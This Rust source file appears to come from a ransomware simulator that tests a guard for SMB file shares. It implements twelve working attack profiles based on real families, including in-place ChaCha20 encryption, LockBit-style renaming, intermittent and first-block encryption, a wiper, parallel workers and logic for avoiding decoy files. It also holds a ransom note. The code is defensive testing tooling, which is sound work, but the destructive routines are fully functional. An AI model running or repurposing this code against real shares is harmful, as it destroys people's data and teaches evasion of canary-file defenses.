//! Attack profiles: how real families damage a share over SMB.
//!
//! Each profile enumerates the share as the attacker's session, then damages
//! files one by one until done or until the server keeps refusing (the
//! guard's block): after `give_up_after` refusals in a row the attacker
//! stops, as it would once its session is gone. Every SMB operation goes to
//! the [`OpLog`]. The damage is real ChaCha20 ciphertext, written only
//! through the SMB session.

use crate::cipher::{base64, Cipher};
use crate::log::OpLog;
use crate::smb::{RemoteFile, SmbSession, SmbTarget};
use crate::{AttackError, Result};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::collections::BTreeSet;
use std::time::{Duration, Instant};

/// The ransom note every folder gets in [`Profile::RenameLockbit`] and
/// [`Profile::RenameRandom`] (Japanese first, then English).
pub const RANSOM_NOTE_NAME: &str = "RESTORE-MY-FILES.txt";
pub const RANSOM_NOTE: &str = "\
あなたの会社のファイルはすべて暗号化されました。\r\n\
復号するには 72 時間以内に下記の連絡先へご連絡ください。警察や専門家に相談した場合、データは公開されます。\r\n\
\r\n\
All of your files have been encrypted.\r\n\
Contact us within 72 hours to get the decryptor. If you call the police or recovery experts, your data will be published.\r\n\
(mamori attack simulator: this is a test, no data left this machine)\r\n";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Profile {
    /// Read, then overwrite the whole file in place with ciphertext.
    InPlace,
    /// Encrypt in place, rename to `*.lockbit`, ransom note per folder.
    RenameLockbit,
    /// Encrypt in place, rename to a random per-run extension, note per folder.
    RenameRandom,
    /// Write `name.<random per-run extension>` with the ciphertext, then
    /// delete the original (no known ransomware extension to go by).
    NewDelete,
    /// LockFile: every other 16 bytes encrypted.
    LockFile,
    /// LockBit 2.0: only the first 4 KB encrypted.
    FirstBlock,
    /// BlackCat/PLAY-style intermittent: 5 % of the file in 1 KB chunks.
    Chunks,
    /// Ciphertext written base64-encoded (low entropy output).
    Base64,
    /// Several parallel SMB sessions (forked workers), as fast as possible.
    Fast,
    /// One file every `slow_interval`.
    Slow,
    /// Deletes files, encrypts nothing.
    Wiper,
    /// Skips small, hidden and first-sorted files; random order.
    DecoyAvoiding,
}

impl Profile {
    pub const ALL: [Profile; 12] = [
        Profile::InPlace,
        Profile::RenameLockbit,
        Profile::RenameRandom,
        Profile::NewDelete,
        Profile::LockFile,
        Profile::FirstBlock,
        Profile::Chunks,
        Profile::Base64,
        Profile::Fast,
        Profile::Slow,
        Profile::Wiper,
        Profile::DecoyAvoiding,
    ];

    /// The CLI name.
    pub fn name(self) -> &'static str {
        match self {
            Profile::InPlace => "in-place",
            Profile::RenameLockbit => "rename-lockbit",
            Profile::RenameRandom => "rename-random",
            Profile::NewDelete => "new-delete",
            Profile::LockFile => "lockfile",
            Profile::FirstBlock => "lockbit2-4k",
            Profile::Chunks => "chunks-5pct",
            Profile::Base64 => "base64",
            Profile::Fast => "fast",
            Profile::Slow => "slow",
            Profile::Wiper => "wiper",
            Profile::DecoyAvoiding => "decoy-avoiding",
        }
    }

    pub fn from_name(name: &str) -> Option<Profile> {
        Profile::ALL.into_iter().find(|p| p.name() == name)
    }
}

/// Knobs of one run.
#[derive(Debug, Clone)]
pub struct AttackOptions {
    pub seed: u64,
    /// Share-relative folder to attack ("" = the whole share).
    pub root: String,
    /// Damage at most this many files (None = all).
    pub limit: Option<usize>,
    /// Parallel sessions of [`Profile::Fast`].
    pub workers: usize,
    /// Pause between files of [`Profile::Slow`].
    pub slow_interval: Duration,
    /// Stop after this many refused operations in a row.
    pub give_up_after: usize,
}

impl Default for AttackOptions {
    fn default() -> Self {
        AttackOptions {
            seed: 0x6d616d6f7269,
            root: String::new(),
            limit: None,
            workers: 4,
            slow_interval: Duration::from_secs(3),
            give_up_after: 5,
        }
    }
}

/// What a run did.
#[derive(Debug, Clone, Default, serde::Serialize, serde::Deserialize)]
pub struct AttackReport {
    pub profile: String,
    /// Files the attacker tried to damage.
    pub attempted: usize,
    /// Files actually damaged (a malicious write, rename or delete succeeded).
    pub damaged: Vec<String>,
    /// Operations the server refused.
    pub refused: usize,
    /// RFC 3339 time of the first successful malicious operation.
    pub first_malicious: Option<String>,
    /// RFC 3339 time of the first refused operation.
    pub first_refused: Option<String>,
    /// Other failures (file vanished, ...): the first few, for diagnosis.
    #[serde(default)]
    pub other_errors: Vec<String>,
    pub elapsed_ms: u128,
    /// Time spent damaging (after enumerating the share).
    pub damage_ms: u128,
}

impl AttackReport {
    /// Damaged files per second while damaging.
    pub fn files_per_second(&self) -> f64 {
        self.damaged.len() as f64 / (self.damage_ms.max(1) as f64 / 1000.0)
    }
}

fn now() -> String {
    chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
}

fn folder_of(path: &str) -> &str {
    path.rsplit_once('/').map(|(d, _)| d).unwrap_or("")
}

fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The files a profile goes after, in its order.
fn targets(files: Vec<RemoteFile>, profile: Profile, rng: &mut ChaCha8Rng) -> Vec<RemoteFile> {
    let mut files: Vec<RemoteFile> = files
        .into_iter()
        .filter(|f| file_name(&f.path) != RANSOM_NOTE_NAME)
        .collect();
    if profile == Profile::DecoyAvoiding {
        let mut seen_per_folder: std::collections::BTreeMap<String, usize> = Default::default();
        files.retain(|f| {
            let name = file_name(&f.path);
            let rank = seen_per_folder
                .entry(folder_of(&f.path).to_string())
                .or_insert(0);
            *rank += 1;
            let hidden = f.hidden || name.starts_with('.') || name.starts_with("~$");
            let first_sorted = *rank <= 2
                || name.starts_with('!')
                || name.starts_with('0')
                || name.starts_with('_')
                || name.starts_with('$');
            f.size >= 4096 && !hidden && !first_sorted
        });
        files.shuffle(rng);
    }
    files
}

/// Runs `profile` against `target` and returns what it did.
pub fn run(
    target: &SmbTarget,
    profile: Profile,
    opts: &AttackOptions,
    log: &OpLog,
) -> Result<AttackReport> {
    let start = Instant::now();
    let mut rng = ChaCha8Rng::seed_from_u64(opts.seed);
    let session = SmbSession::connect(target)?;
    let all = session.walk(&opts.root)?;
    let mut files = targets(all, profile, &mut rng);
    if let Some(limit) = opts.limit {
        files.truncate(limit);
    }
    let mut report = AttackReport {
        profile: profile.name().into(),
        ..Default::default()
    };
    let damage_start = Instant::now();
    if profile == Profile::Fast {
        drop(session);
        fast::run(target, &files, opts, log, &mut report)?;
    } else {
        let cipher = Cipher::new(opts.seed);
        let extension = if matches!(profile, Profile::RenameRandom | Profile::NewDelete) {
            random_extension(&mut rng)
        } else {
            ".lockbit".to_string()
        };
        let mut noted = BTreeSet::new();
        let mut refused_in_row = 0;
        for (i, file) in files.iter().enumerate() {
            if profile == Profile::Slow && i > 0 {
                std::thread::sleep(opts.slow_interval);
            }
            report.attempted += 1;
            let step = Step::new(&session, log, &cipher, i as u64);
            let outcome = match profile {
                Profile::RenameLockbit | Profile::RenameRandom => {
                    let folder = folder_of(&file.path).to_string();
                    if noted.insert(folder.clone()) {
                        let note = if folder.is_empty() {
                            RANSOM_NOTE_NAME.to_string()
                        } else {
                            format!("{folder}/{RANSOM_NOTE_NAME}")
                        };
                        let r = session.write(&note, RANSOM_NOTE.as_bytes());
                        log.record(
                            "note",
                            &note,
                            true,
                            r.as_ref().map(|_| ()).map_err(|e| e.to_string()),
                        );
                    }
                    step.damage(profile, &file.path, &extension)
                }
                _ => step.damage(profile, &file.path, &extension),
            };
            if step.touched.get() {
                report.damaged.push(file.path.clone());
            }
            match outcome {
                Ok(()) => {
                    refused_in_row = 0;
                }
                Err(e) if e.is_denied() => {
                    report.refused += 1;
                    report.first_refused.get_or_insert_with(now);
                    refused_in_row += 1;
                    if refused_in_row >= opts.give_up_after {
                        break;
                    }
                }
                // A file that vanished or is locked: skip it, like real malware.
                Err(e) => {
                    if report.other_errors.len() < 10 {
                        report.other_errors.push(e.to_string());
                    }
                }
            }
        }
    }
    if report.first_malicious.is_none() {
        // Send time of the first accepted malicious operation.
        report.first_malicious = log.first_malicious();
    }
    report.elapsed_ms = start.elapsed().as_millis();
    report.damage_ms = damage_start.elapsed().as_millis();
    Ok(report)
}

fn random_extension(rng: &mut ChaCha8Rng) -> String {
    let len = rng.gen_range(5..=10);
    let mut ext = String::from(".");
    for _ in 0..len {
        ext.push((b'a' + rng.gen_range(0..26)) as char);
    }
    ext
}

/// Damages one file; logs each SMB operation.
struct Step<'a> {
    session: &'a SmbSession,
    log: &'a OpLog,
    cipher: &'a Cipher,
    index: u64,
    /// Set once a malicious operation on this file succeeded (the file is
    /// damaged even if a later step, e.g. the rename, is refused).
    touched: std::cell::Cell<bool>,
}

impl Step<'_> {
    fn new<'a>(
        session: &'a SmbSession,
        log: &'a OpLog,
        cipher: &'a Cipher,
        index: u64,
    ) -> Step<'a> {
        Step {
            session,
            log,
            cipher,
            index,
            touched: std::cell::Cell::new(false),
        }
    }

    fn logged<T>(
        &self,
        op: &str,
        path: &str,
        malicious: bool,
        f: impl FnOnce() -> Result<T>,
    ) -> Result<T> {
        let started = chrono::Utc::now();
        let r = f();
        self.log.record_started(
            op,
            path,
            malicious,
            started,
            r.as_ref().map(|_| ()).map_err(|e| e.to_string()),
        );
        if malicious && r.is_ok() {
            self.touched.set(true);
        }
        r
    }

    fn read(&self, path: &str) -> Result<Vec<u8>> {
        self.logged("read", path, false, || self.session.read(path))
    }

    fn write_at(&self, path: &str, regions: Vec<(u64, Vec<u8>)>) -> Result<()> {
        self.logged("write_at", path, true, || {
            self.session.write_at(path, &regions)
        })
    }

    fn damage(&self, profile: Profile, path: &str, extension: &str) -> Result<()> {
        let key = self.index;
        match profile {
            Profile::InPlace | Profile::Fast | Profile::Slow | Profile::DecoyAvoiding => {
                let data = self.read(path)?;
                self.write_at(path, vec![(0, self.cipher.encrypt(key, &data))])
            }
            Profile::RenameLockbit | Profile::RenameRandom => {
                let data = self.read(path)?;
                self.write_at(path, vec![(0, self.cipher.encrypt(key, &data))])?;
                let to = format!("{path}{extension}");
                self.logged("rename", path, true, || self.session.rename(path, &to))
            }
            Profile::NewDelete => {
                let data = self.read(path)?;
                let to = format!("{path}{extension}");
                let encrypted = self.cipher.encrypt(key, &data);
                self.logged("write", &to, true, || self.session.write(&to, &encrypted))?;
                self.logged("unlink", path, true, || self.session.unlink(path))
            }
            Profile::LockFile => {
                let mut data = self.read(path)?;
                let stream = self.cipher.encrypt(key, &vec![0u8; data.len()]);
                for (block, chunk) in data.chunks_mut(32).enumerate() {
                    let n = chunk.len().min(16);
                    for j in 0..n {
                        chunk[j] ^= stream[block * 32 + j];
                    }
                }
                self.write_at(path, vec![(0, data)])
            }
            Profile::FirstBlock => {
                let data = self.read(path)?;
                let head = &data[..data.len().min(4096)];
                self.write_at(path, vec![(0, self.cipher.encrypt(key, head))])
            }
            Profile::Chunks => {
                let data = self.read(path)?;
                let regions = intermittent_regions(data.len(), 0.05, 1024)
                    .into_iter()
                    .map(|(off, len)| {
                        let slice = &data[off..off + len];
                        (off as u64, self.cipher.encrypt(key ^ off as u64, slice))
                    })
                    .collect();
                self.write_at(path, regions)
            }
            Profile::Base64 => {
                let data = self.read(path)?;
                let encoded = base64(&self.cipher.encrypt(key, &data));
                self.logged("write", path, true, || {
                    self.session.write(path, encoded.as_bytes())
                })
            }
            Profile::Wiper => self.logged("unlink", path, true, || self.session.unlink(path)),
        }
    }
}

/// (offset, length) of chunks covering `fraction` of a file of `len` bytes,
/// spread evenly; always at least the first chunk.
pub fn intermittent_regions(len: usize, fraction: f64, chunk: usize) -> Vec<(usize, usize)> {
    if len == 0 {
        return Vec::new();
    }
    let chunk = chunk.min(len);
    let count = ((len as f64 * fraction) / chunk as f64).ceil().max(1.0) as usize;
    let stride = (len / count).max(chunk);
    (0..count)
        .map(|i| i * stride)
        .filter(|off| *off < len)
        .map(|off| (off, chunk.min(len - off)))
        .collect()
}

/// The fast profile: workers forked before any SMB context exists in the
/// child (libsmbclient is not thread safe), each with its own session,
/// reporting back over a pipe.
mod fast {
    use super::*;

    pub(super) fn run(
        target: &SmbTarget,
        files: &[RemoteFile],
        opts: &AttackOptions,
        log: &OpLog,
        report: &mut AttackReport,
    ) -> Result<()> {
        // Resolve the library in the parent so children never dlopen.
        if let Some(reason) = crate::smb::unavailable_reason() {
            return Err(AttackError::Unavailable(reason));
        }
        let workers = opts.workers.max(1);
        let texts = crate::smb::in_forked_children(workers, |w| {
            let mine: Vec<RemoteFile> = files
                .iter()
                .enumerate()
                .filter(|(i, _)| i % workers == w)
                .map(|(_, f)| f.clone())
                .collect();
            worker(target, &mine, opts, log, w as u64)
        })?;
        for text in texts {
            if let Ok(summary) = serde_json::from_str::<WorkerSummary>(&text) {
                report.attempted += summary.attempted;
                report.refused += summary.refused;
                report.damaged.extend(summary.damaged);
                report.other_errors.extend(summary.other_errors);
                for (slot, value) in [
                    (&mut report.first_malicious, summary.first_malicious),
                    (&mut report.first_refused, summary.first_refused),
                ] {
                    if let Some(v) = value {
                        if slot.as_ref().is_none_or(|s| v < *s) {
                            *slot = Some(v);
                        }
                    }
                }
            }
        }
        report.damaged.sort();
        Ok(())
    }

    #[derive(serde::Serialize, serde::Deserialize, Default)]
    struct WorkerSummary {
        attempted: usize,
        refused: usize,
        damaged: Vec<String>,
        first_malicious: Option<String>,
        first_refused: Option<String>,
        other_errors: Vec<String>,
    }

    fn worker(
        target: &SmbTarget,
        files: &[RemoteFile],
        opts: &AttackOptions,
        log: &OpLog,
        w: u64,
    ) -> String {
        let mut summary = WorkerSummary::default();
        if let Ok(session) = SmbSession::connect(target) {
            let cipher = Cipher::new(opts.seed);
            let mut refused_in_row = 0;
            for (i, file) in files.iter().enumerate() {
                summary.attempted += 1;
                let step = Step::new(&session, log, &cipher, (i as u64) << 8 | w);
                let outcome = step.damage(Profile::Fast, &file.path, "");
                if step.touched.get() {
                    summary.damaged.push(file.path.clone());
                }
                match outcome {
                    Ok(()) => {
                        refused_in_row = 0;
                    }
                    Err(e) if e.is_denied() => {
                        summary.refused += 1;
                        summary.first_refused.get_or_insert_with(now);
                        refused_in_row += 1;
                        if refused_in_row >= opts.give_up_after {
                            break;
                        }
                    }
                    Err(e) => {
                        if summary.other_errors.len() < 10 {
                            summary.other_errors.push(e.to_string());
                        }
                    }
                }
            }
        }
        summary.first_malicious = log.first_malicious();
        serde_json::to_string(&summary).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip() {
        for p in Profile::ALL {
            assert_eq!(Profile::from_name(p.name()), Some(p));
        }
    }

    #[test]
    fn intermittent_regions_cover_about_five_percent() {
        let regions = intermittent_regions(100_000, 0.05, 1024);
        let total: usize = regions.iter().map(|r| r.1).sum();
        assert!((5000..=6200).contains(&total), "{total}");
        assert_eq!(regions[0].0, 0);
        assert!(regions.iter().all(|(o, l)| o + l <= 100_000));
        assert_eq!(intermittent_regions(100, 0.05, 1024), vec![(0, 100)]);
    }

    #[test]
    fn decoy_avoiding_skips_small_hidden_and_first_files() {
        let f = |path: &str, size| RemoteFile {
            path: path.into(),
            size,
            hidden: false,
        };
        let files = vec![
            f("a/!decoy.docx", 50_000),
            f("a/aa.docx", 50_000),
            f("a/b.docx", 50_000),
            f("a/c.docx", 50_000),
            f("a/.hidden.docx", 50_000),
            f("a/small.txt", 100),
        ];
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        let picked: Vec<String> = targets(files, Profile::DecoyAvoiding, &mut rng)
            .into_iter()
            .map(|f| f.path)
            .collect();
        assert_eq!(picked.len(), 2, "{picked:?}");
        assert!(picked.contains(&"a/b.docx".to_string()));
        assert!(picked.contains(&"a/c.docx".to_string()));
    }
}
